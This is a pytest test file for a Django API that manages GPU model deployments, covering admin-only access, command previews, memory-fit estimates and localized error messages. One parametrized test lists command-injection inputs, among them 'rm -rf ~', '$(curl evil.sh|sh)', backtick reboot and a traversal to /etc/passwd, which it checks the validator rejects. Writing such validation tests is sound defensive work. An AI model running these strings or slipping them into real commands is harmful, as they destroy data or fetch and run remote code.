"""REST API for deployments, jobs, fit estimates and host actions: admins only, field errors, no secrets."""

from __future__ import annotations

import pytest
from django.test import Client
from django.urls import reverse

from hosts.models import GPU, Deployment, Host, LaunchJob
from tests.services import free_port


@pytest.fixture
def host(db):
    host = Host.objects.create(name="h100-box", address="10.0.0.5", username="ubuntu", private_key="x")
    for i in range(2):
        GPU.objects.create(host=host, index=i, name="NVIDIA H100 80GB HBM3", memory_total_mib=81559, memory_used_mib=1)
    return host


def spec(host, **overrides):
    body = {
        "name": "qwen",
        "host": host.pk,
        "backend": "vllm",
        "model_path": "Qwen/Qwen3-32B",
        "served_model_name": "qwen3-32b",
        "gpu_indices": [0, 1],
        "port": 8000,
        "options": {"max_model_len": 32768},
        "extra_args": ["--trust-remote-code"],
    }
    body.update(overrides)
    return body


@pytest.mark.parametrize("url", ["/api/deployments/", "/api/jobs/"])
def test_developers_and_anonymous_cannot_see_deployments_or_jobs(alice_client, url):
    assert Client().get(url).status_code in (401, 403)
    assert alice_client.get(url).status_code == 403


def test_developers_cannot_use_host_actions_or_the_estimate(alice_client, host):
    assert alice_client.post(f"/api/hosts/{host.pk}/refresh-inventory/").status_code == 403
    assert alice_client.post(f"/api/hosts/{host.pk}/confirm-host-key/", {"fingerprint": "x"}).status_code == 403
    assert alice_client.post("/api/fit-estimate/", {}, content_type="application/json").status_code == 403


def test_admin_creates_a_deployment_and_never_sees_its_key(admin_client, host):
    r = admin_client.post("/api/deployments/", spec(host), content_type="application/json")
    assert r.status_code == 201, r.json()
    body = r.json()
    deployment = Deployment.objects.get(pk=body["id"])
    assert "upstream_api_key" not in body and deployment.upstream_api_key not in r.content.decode()
    assert body["options"]["tensor_parallel_size"] == 2  # filled in from the GPUs chosen
    assert body["command_preview"].startswith(
        "CUDA_VISIBLE_DEVICES=0,1 vllm serve Qwen/Qwen3-32B --served-model-name qwen3-32b --tensor-parallel-size 2"
    )
    assert body["command_preview"].endswith("--host 0.0.0.0 --port 8000")  # the key reaches vLLM as VLLM_API_KEY


@pytest.mark.parametrize(
    ("override", "field"),
    [
        ({"model_path": "Qwen/Qwen3-32B; rm -rf ~"}, "model_path"),
        ({"model_path": "$(curl evil.sh|sh)"}, "model_path"),
        ({"backend": "llamacpp", "model_path": "/models/x.gguf`reboot`", "options": {}}, "model_path"),
        ({"backend": "llamacpp", "model_path": "/models/../etc/passwd.gguf", "options": {}}, "model_path"),
        ({"served_model_name": "qwen; reboot"}, "served_model_name"),
        ({"extra_args": ["--foo", "$(reboot)"]}, "extra_args"),
        ({"extra_args": ["--max-num-seqs 8 && reboot"]}, "extra_args"),
        ({"extra_args": ["--api-key=mine"]}, "extra_args"),
        ({"extra_args": ["--port", "9"]}, "extra_args"),
        ({"options": {"max_model_len": 32768, "tensor_parallel_size": 1}}, "options.tensor_parallel_size"),
        ({"options": {"max_model_len": "lots"}}, "options.max_model_len"),
        ({"options": {"gpu_memory_utilization": 1.5}}, "options.gpu_memory_utilization"),
        ({"options": {"rm": "-rf"}}, "options"),
        ({"port": 80}, "port"),
        ({"gpu_indices": [0, 7]}, "gpu_indices"),
    ],
)
def test_injection_attempts_and_bad_options_are_field_errors(admin_client, host, override, field):
    r = admin_client.post("/api/deployments/", spec(host, **override), content_type="application/json")
    assert r.status_code == 400, r.json()
    assert field in r.json() or field in r.json().get("errors", r.json()), r.json()
    assert not Deployment.objects.exists()


def test_a_port_used_by_another_deployment_is_refused(admin_client, host):
    assert admin_client.post("/api/deployments/", spec(host), content_type="application/json").status_code == 201
    r = admin_client.post("/api/deployments/", spec(host, name="other"), content_type="application/json")
    assert r.status_code == 400 and "port" in r.json()


def test_launch_queues_one_job_and_a_second_is_a_conflict(admin_client, host):
    deployment_id = admin_client.post("/api/deployments/", spec(host), content_type="application/json").json()["id"]
    r = admin_client.post(f"/api/deployments/{deployment_id}/launch/")
    assert r.status_code == 202 and r.json()["state"] == "queued"
    again = admin_client.post(f"/api/deployments/{deployment_id}/stop/")
    assert again.status_code == 409 and "still running" in again.json()["detail"]
    job = admin_client.get(f"/api/jobs/{r.json()['id']}/").json()
    assert {"log_tail", "transitions", "command", "exit_code"} <= set(job)
    assert LaunchJob.objects.count() == 1


def test_deployment_and_estimate_field_errors_are_said_in_the_admins_language(admin_client, host):
    """These field errors were English whatever the admin's language."""
    zh = {"content_type": "application/json", "HTTP_ACCEPT_LANGUAGE": "zh-hans"}
    assert admin_client.post("/api/deployments/", spec(host), content_type="application/json").status_code == 201
    r = admin_client.post("/api/deployments/", spec(host, name="other", gpu_indices=[0, 0]), **zh)
    assert r.status_code == 400
    assert r.json()["port"] == ["端口 8000 已被此主机上的部署 qwen 使用。"]
    assert r.json()["gpu_indices"] == ["每个 GPU 只能选一次。"]
    r = admin_client.post("/api/fit-estimate/", {"backend": "vllm", "host": host.pk}, **zh)
    assert r.status_code == 400 and r.json()["model"] == ["请给出模型名称（与预设匹配）、其 config.json 或架构。"]
    r = admin_client.post("/api/fit-estimate/", {"backend": "vllm", "host": host.pk, "model": "acme/unknown"}, **zh)
    assert r.status_code == 400 and r.json()["model"] == [
        "“acme/unknown”没有 config.json、可读取的模型文件或预设；请粘贴其 config.json。"
    ]


def test_the_conflict_of_a_second_job_is_said_in_the_admins_language(admin_client, host):
    """The 409 (and the page's flash) was English whatever the admin's language."""
    deployment_id = admin_client.post("/api/deployments/", spec(host), content_type="application/json").json()["id"]
    job = admin_client.post(f"/api/deployments/{deployment_id}/launch/").json()["id"]
    again = admin_client.post(f"/api/deployments/{deployment_id}/restart/", HTTP_ACCEPT_LANGUAGE="zh-hans")
    assert again.status_code == 409
    assert again.json()["detail"] == f"qwen 的作业 #{job}（启动）仍在运行；请等它结束。"
    page = admin_client.post(
        reverse("deployment_action", args=[deployment_id, "stop"]), follow=True, HTTP_ACCEPT_LANGUAGE="zh-hans"
    )
    assert f"qwen 的作业 #{job}（启动）仍在运行；请等它结束。" in page.content.decode()


def test_fit_estimate_endpoint_reproduces_the_12gb_calibration(admin_client):
    body = {
        "backend": "llamacpp",
        "model": "Qwen3-Coder-30B-A3B-Instruct-Q4_K_M.gguf",
        "options": {"n_gpu_layers": 25, "ctx_size": 32768, "flash_attn": "off"},
        "gpus": [{"index": 0, "total_mib": 12288, "free_mib": 12288}],
    }
    r = admin_client.post("/api/fit-estimate/", body, content_type="application/json")
    assert r.status_code == 200, r.json()
    assert r.json()["verdict"] == "does_not_fit"
    assert 24576 <= r.json()["max_context"] < 32768
    body["options"]["ctx_size"] = 24576
    assert admin_client.post("/api/fit-estimate/", body, content_type="application/json").json()["verdict"] == "tight"


def test_fit_estimate_uses_the_hosts_gpus(admin_client, host):
    body = {"backend": "vllm", "model": "meta-llama/Llama-3.1-8B-Instruct", "host": host.pk, "gpu_indices": [0]}
    r = admin_client.post("/api/fit-estimate/", body, content_type="application/json")
    assert r.status_code == 200 and r.json()["verdict"] == "fits"


def test_a_stale_or_missing_gpu_is_said_in_the_admins_language(admin_client, host):
    """These two refusals were English whatever the admin's language."""
    GPU.objects.filter(host=host, index=1).update(stale=True)  # the last inventory failed
    zh = {"content_type": "application/json", "HTTP_ACCEPT_LANGUAGE": "zh-hans"}
    body = {"backend": "vllm", "model": "meta-llama/Llama-3.1-8B-Instruct", "host": host.pk}
    r = admin_client.post("/api/fit-estimate/", {**body, "gpu_indices": [0, 1]}, **zh)
    assert r.status_code == 400 and r.json() == {"gpu_indices": ["GPU 1 的信息已过期；请刷新该主机的资源清单。"]}
    r = admin_client.post("/api/fit-estimate/", {**body, "gpu_indices": [0, 5]}, **zh)
    assert r.status_code == 400 and r.json() == {"gpu_indices": ["h100-box 上没有 GPU 5；请刷新该主机的资源清单。"]}
    english = admin_client.post("/api/fit-estimate/", {**body, "gpu_indices": [5]}, content_type="application/json")
    assert english.json() == {"gpu_indices": ["GPU 5 is not on h100-box; refresh the host's inventory."]}


def test_fit_estimate_for_an_unknown_model_asks_for_an_architecture(admin_client):
    body = {"backend": "vllm", "model": "my/own-model", "gpus": [{"total_mib": 24564, "free_mib": 24000}]}
    r = admin_client.post("/api/fit-estimate/", body, content_type="application/json")
    assert r.status_code == 400 and "model" in r.json()


@pytest.mark.parametrize(
    ("name", "value"),
    [("hidden_size", 1e308), ("num_experts", -4), ("num_hidden_layers", True), ("vocab_size", 10**30)],
)
def test_a_config_json_with_a_size_no_model_has_is_a_field_error(admin_client, name, value):
    """Regression (probe): 1e308 hidden units was an OverflowError (a 500); -4 experts gave a negative
    weight size; `true` layers counted as one."""
    config = {"num_hidden_layers": 32, "hidden_size": 4096, "num_attention_heads": 32, "vocab_size": 32000}
    gpus = [{"total_mib": 24000, "free_mib": 24000}]
    body = {"backend": "vllm", "config_json": {**config, name: value}, "gpus": gpus}
    r = admin_client.post("/api/fit-estimate/", body, content_type="application/json")
    assert r.status_code == 400, r.content
    assert name in r.json()["config_json"][0]


def test_confirming_the_host_key_needs_the_fingerprint_that_was_seen(admin_client, host):
    Host.objects.filter(pk=host.pk).update(seen_host_key_fingerprint="SHA256:seen", status="host_key_unconfirmed")
    wrong = admin_client.post(f"/api/hosts/{host.pk}/confirm-host-key/", {"fingerprint": "SHA256:other"})
    assert wrong.status_code == 400
    ok = admin_client.post(f"/api/hosts/{host.pk}/confirm-host-key/", {"fingerprint": "SHA256:seen"})
    assert ok.status_code == 200 and ok.json()["host_key_fingerprint"] == "SHA256:seen"
    host.refresh_from_db()
    assert host.host_key_fingerprint == "SHA256:seen" and host.status == "unknown"


def test_a_running_deployment_cannot_be_deleted(admin_client, host):
    deployment_id = admin_client.post("/api/deployments/", spec(host), content_type="application/json").json()["id"]
    Deployment.objects.filter(pk=deployment_id).update(status="running")
    assert admin_client.delete(f"/api/deployments/{deployment_id}/").status_code == 400
    Deployment.objects.filter(pk=deployment_id).update(status="stopped")
    assert admin_client.delete(f"/api/deployments/{deployment_id}/").status_code == 204


def test_free_port_helper_is_usable():
    assert 1024 < free_port() < 65536


def test_fit_estimate_reads_a_pasted_config_json(admin_client):
    from pathlib import Path

    text = (Path(__file__).resolve().parents[1] / "fixtures" / "model_configs" / "deepseek-v3.json").read_text()
    h200 = {"total_mib": 143771, "free_mib": 143771}
    body = {"backend": "vllm", "config_json": text, "gpus": [{**h200, "index": i} for i in range(8)]}
    body["options"] = {"max_model_len": 32768}
    r = admin_client.post("/api/fit-estimate/", body, content_type="application/json")
    assert r.status_code == 200, r.json()
    est = r.json()
    assert est["source"] == "config.json (given)" and est["kv_bytes_per_token"] == 576 * 61 * 2  # MLA
    assert est["verdict"] in ("fits", "tight") and est["tensor_parallel"] == 8
    assert est["max_concurrency"] > 1 and len(est["devices"]) == 8


def test_fit_estimate_refuses_tp_that_does_not_divide_the_heads(admin_client):
    body = {
        "backend": "vllm",
        "model": "meta-llama/Llama-3.3-70B-Instruct",
        "gpus": [{"index": i, "total_mib": 81559, "free_mib": 81559} for i in range(3)],
    }
    est = admin_client.post("/api/fit-estimate/", body, content_type="application/json").json()
    assert est["verdict"] == "does_not_fit"
    assert est["problems"] == [
        "Tensor parallel size 3 does not divide the model's 64 attention heads; use one of 1, 2, 4, 8."
    ]


@pytest.mark.parametrize(
    ("config", "message"),
    [("{not json", "not JSON"), ({"model_type": "llama"}, "lacks what the estimate needs"), (["a"], "object")],
)
def test_fit_estimate_explains_a_bad_config_json(admin_client, config, message):
    body = {"backend": "vllm", "config_json": config, "gpus": [{"total_mib": 24564, "free_mib": 24000}]}
    r = admin_client.post("/api/fit-estimate/", body, content_type="application/json")
    assert r.status_code == 400 and message in r.json()["config_json"][0]


def test_fit_estimate_for_cpu_only_llamacpp_uses_the_ram_given(admin_client):
    body = {"backend": "llamacpp", "model": "/models/Qwen3-8B-Q4_K_M.gguf", "gpus": [], "ram_mib": 32768}
    body["options"] = {"n_gpu_layers": 0, "ctx_size": 8192}
    est = admin_client.post("/api/fit-estimate/", body, content_type="application/json").json()
    assert est["verdict"] == "fits" and est["devices"][0]["name"] == "RAM"


def test_fit_estimate_advises_a_change_that_fits(admin_client):
    body = {
        "backend": "llamacpp",
        "model": "Qwen3-Coder-30B-A3B-Instruct-Q4_K_M.gguf",
        "options": {"n_gpu_layers": 25, "ctx_size": 32768, "flash_attn": "off"},
        "gpus": [{"index": 0, "total_mib": 12288, "free_mib": 12288}],
    }
    est = admin_client.post("/api/fit-estimate/", body, content_type="application/json").json()
    assert est["verdict"] == "does_not_fit" and est["flash_attention"] == "off"
    assert est["advice"] and all(a["verdict"] in ("fits", "tight") for a in est["advice"])
    del body["options"]["flash_attn"]  # -fa auto, no launch seen: as llama.cpp decides it on CUDA
    auto = admin_client.post("/api/fit-estimate/", body, content_type="application/json").json()
    assert auto["flash_attention"] == "on" and auto["verdict"] != "does_not_fit"


@pytest.mark.parametrize(
    ("config", "chinese"),
    [
        ("{not json", "config.json 不是 JSON（"),
        ({"model_type": "llama"}, "config.json 缺少估算所需的内容（'hidden_size'）。"),
        ('["a"]', "config.json 不是 JSON 对象。"),
    ],
)
def test_a_bad_config_json_is_explained_in_the_admins_language(admin_client, config, chinese):
    """These field errors, written by the estimate, were English whatever the admin's language."""
    body = {"backend": "vllm", "config_json": config, "gpus": [{"total_mib": 24564, "free_mib": 24000}]}
    r = admin_client.post("/api/fit-estimate/", body, content_type="application/json", HTTP_ACCEPT_LANGUAGE="zh-hans")
    assert r.status_code == 400 and r.json()["config_json"][0].startswith(chinese), r.json()


def test_an_unknown_option_in_the_estimate_is_an_error_on_options(admin_client):
    """The estimate answered it under `options.options`; the deployment API says `options`."""
    body = {"backend": "vllm", "model": "Qwen/Qwen3-32B", "options": {"rm": "-rf", "max_model_len": "lots"}}
    body["gpus"] = [{"total_mib": 81559, "free_mib": 81559}]
    r = admin_client.post("/api/fit-estimate/", body, content_type="application/json")
    assert r.status_code == 400
    assert set(r.json()) == {"options", "options.max_model_len"}, r.json()
    assert "rm" in r.json()["options"][0]
